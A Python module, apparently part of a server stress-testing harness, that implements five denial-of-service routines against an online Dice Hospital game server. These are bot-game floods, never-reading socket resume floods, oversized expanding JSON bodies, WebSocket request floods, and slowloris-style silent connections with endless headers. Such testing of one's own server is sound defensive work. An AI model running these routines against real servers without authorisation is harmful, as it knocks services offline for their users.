"""What one address may try against a server: each goes on until it is cancelled."""

from __future__ import annotations

import asyncio
import contextlib
import socket
from typing import TYPE_CHECKING

from crowd.wire import HANDSHAKE, Wire

if TYPE_CHECKING:
    from collections.abc import Iterator

    from crowd.calls import Calls

BOT_TABLES = 50
DEAF = 20  # sockets at a time, that never read
RESUMES = 35
HEAVY = (
    b'{"record":{"log":[' + b'{"":0},' * 280_000 + b"0]}}"
)  # read, it would be thirty times as large
BODIES = 40
ASKING = 40
ASKS_A_SECOND = 19
SILENT = 1_100
WHOLE = b'{"type":"resume","have":-1,"events":0}'
HINT = b'{"type":"ask","id":"%d","about":"hint","seat":0}'
OUTLOOK = b'{"type":"ask","id":"%d","about":"outlook","seat":0}'
_ORDER = {"game": "hospital", "options": {}, "visibility": "open", "clock": {"move": 0, "game": 0}}


async def bots(calls: Calls) -> None:
    """Fifty games of Dice Hospital that bots play without people."""
    cookie = await _guest(calls)
    for _ in range(BOT_TABLES):
        await _table(calls, cookie, ["bot:greedy", "bot:greedy"])
    await asyncio.Event().wait()


async def deaf(calls: Calls) -> None:
    """Sockets at a finished table ask for all of it again and again, and never read."""
    table = await _table(calls, await _guest(calls), ["bot:random", "bot:random"])
    await _until_over(calls, table)
    held: list[socket.socket] = []
    try:
        while True:
            held += [await _deaf_socket(calls, table) for _ in range(DEAF)]
            await asyncio.sleep(1)
    finally:
        for one in held:
            one.close()


async def bodies(calls: Calls) -> None:
    """Many bodies of two megabytes that say nothing."""
    while True:
        await asyncio.gather(*(_body(calls) for _ in range(BODIES)))


async def asks(calls: Calls) -> None:
    """Sockets at a running table ask as much as they may, by turns for hints and outlooks."""
    cookie = await _guest(calls)
    table = await _table(calls, cookie, ["me", "bot:greedy"])
    wires = [await _wire(calls, table, cookie if n < 8 else "") for n in range(ASKING)]
    number = 0
    while True:
        for wire in wires:
            number += 1
            if wire.is_open:
                wire.send((HINT if number % 2 else OUTLOOK) % number)
        await asyncio.sleep(1 / ASKS_A_SECOND)


async def heads(calls: Calls) -> None:
    """Headers without end, and connections that say nothing."""
    held: list[socket.socket] = []
    try:
        held += [await _connected(calls) for _ in range(SILENT)]
        while True:
            await asyncio.gather(*(_endless(calls) for _ in range(4)))
    finally:
        for one in held:
            one.close()


ATTACKS = {"bots": bots, "deaf": deaf, "bodies": bodies, "asks": asks, "heads": heads}


# -- what they are made of ---------------------------------------------------------------------------
async def _guest(calls: Calls) -> str:
    reply = await calls.call("PUT", "/api/me", {"name": "Eve"})
    return reply.cookie or ""


async def _table(calls: Calls, cookie: str, seats: list[str]) -> str:
    order = {**_ORDER, "players": len(seats), "seats": seats, "start": True}
    made = await calls.call("POST", "/api/tables", order, {"Cookie": cookie})
    return str(made.json["id"])


async def _wire(calls: Calls, table: str, cookie: str) -> Wire:
    wire = Wire(lambda _text: None, lambda: None)
    await _enter(calls, wire, table, cookie)
    return wire


async def _enter(calls: Calls, wire: Wire, table: str, cookie: str) -> None:
    headers = {"Origin": calls.origin, **({"Cookie": cookie} if cookie else {})}
    await wire.open(calls.address, f"/api/tables/{table}/socket", headers, calls.source)


async def _until_over(calls: Calls, table: str) -> None:
    over = asyncio.Event()
    wire = Wire(lambda text: over.set() if b'"status":"over"' in text else None, lambda: None)
    await _enter(calls, wire, table, "")
    async with asyncio.timeout(120):
        await over.wait()
    wire.close()


async def _connected(calls: Calls) -> socket.socket:
    raw = socket.socket()
    raw.setblocking(False)
    raw.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
    with contextlib.suppress(OSError):
        await asyncio.get_running_loop().sock_connect(raw, calls.address)
    return raw


async def _deaf_socket(calls: Calls, table: str) -> socket.socket:
    raw, (host, port) = await _connected(calls), calls.address
    path, headers = f"/api/tables/{table}/socket", f"Origin: {calls.origin}\r\n"
    hand = HANDSHAKE.format(path=path, host=host, port=port, headers=headers).encode()
    await _push(raw, iter([hand, b"".join(_masked(WHOLE) for _ in range(RESUMES))]))
    return raw


async def _body(calls: Calls) -> None:
    head = (
        f"POST /api/replay HTTP/1.1\r\nHost: {calls.origin.removeprefix('http://')}\r\n"
        f"Origin: {calls.origin}\r\nContent-Type: application/json\r\n"
        f"Content-Length: {len(HEAVY)}\r\n\r\n"
    )
    raw = await _connected(calls)
    with raw, contextlib.suppress(OSError):
        await _push(raw, iter([head.encode(), HEAVY]))
        await asyncio.get_running_loop().sock_recv(raw, 4096)


async def _endless(calls: Calls) -> None:
    raw = await _connected(calls)
    with raw:
        await _push(raw, _endless_head())
        await asyncio.sleep(0.1)


def _endless_head() -> Iterator[bytes]:
    yield b"GET / HTTP/1.1\r\nX-Endless: "
    for _ in range(100):
        yield b"x" * 65_536


async def _push(raw: socket.socket, pieces: Iterator[bytes]) -> None:
    """Send pieces until the other side lets go, or takes nothing for a second."""
    with contextlib.suppress(OSError, TimeoutError):
        for piece in pieces:
            async with asyncio.timeout(1):
                await asyncio.get_running_loop().sock_sendall(raw, piece)


def _masked(text: bytes) -> bytes:
    return bytes((0x81, 0x80 | len(text))) + bytes(4) + text
